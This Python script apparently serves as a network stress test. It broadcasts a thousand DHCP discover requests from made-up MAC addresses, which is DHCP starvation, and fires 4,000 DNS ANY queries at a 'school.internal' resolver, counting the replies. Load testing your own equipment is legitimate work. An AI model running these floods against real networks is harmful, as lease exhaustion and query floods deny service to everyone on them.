# Floods the box's network: `leases`, a thousand DHCPDISCOVERs each for another device; `names`, 4,000 questions at once. Says how many answers came.
import socket
import struct
import sys
import time


def leases() -> int:
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    out.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0")
    out.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    out.bind(("0.0.0.0", 68))
    out.setblocking(False)
    offers = set()
    for number in range(1000):
        mac = b"\x02\xff" + struct.pack(">I", number)
        # Flags: the answer goes to all. Options: DISCOVER, end.
        head = struct.pack(">BBBBIHH16x", 1, 1, 6, 0, number, 0, 0x8000)
        out.sendto(head + mac + bytes(10 + 64 + 128) + b"\x63\x82\x53\x63\x35\x01\x01\xff", ("255.255.255.255", 67))
        time.sleep(0.002)
        hear(out, offers, lambda data: data[4:8])
    end = time.time() + 8
    while time.time() < end:
        hear(out, offers, lambda data: data[4:8])
        time.sleep(0.05)
    return len(offers)


def names() -> int:
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    out.connect(("10.48.0.1", 53))
    out.setblocking(False)
    answers = set()
    for number in range(4000):
        question = struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + b"\x06school\x08internal\0" + struct.pack(">HH", 255, 1)
        out.send(question)
        hear(out, answers, lambda data: data[:2])
    end = time.time() + 2
    while time.time() < end:
        hear(out, answers, lambda data: data[:2])
        time.sleep(0.05)
    return len(answers)


def hear(line, heard, key) -> None:
    while True:
        try:
            heard.add(key(line.recv(2048)))
        except (BlockingIOError, ConnectionRefusedError):
            return


print({"leases": leases, "names": names}[sys.argv[1]]())
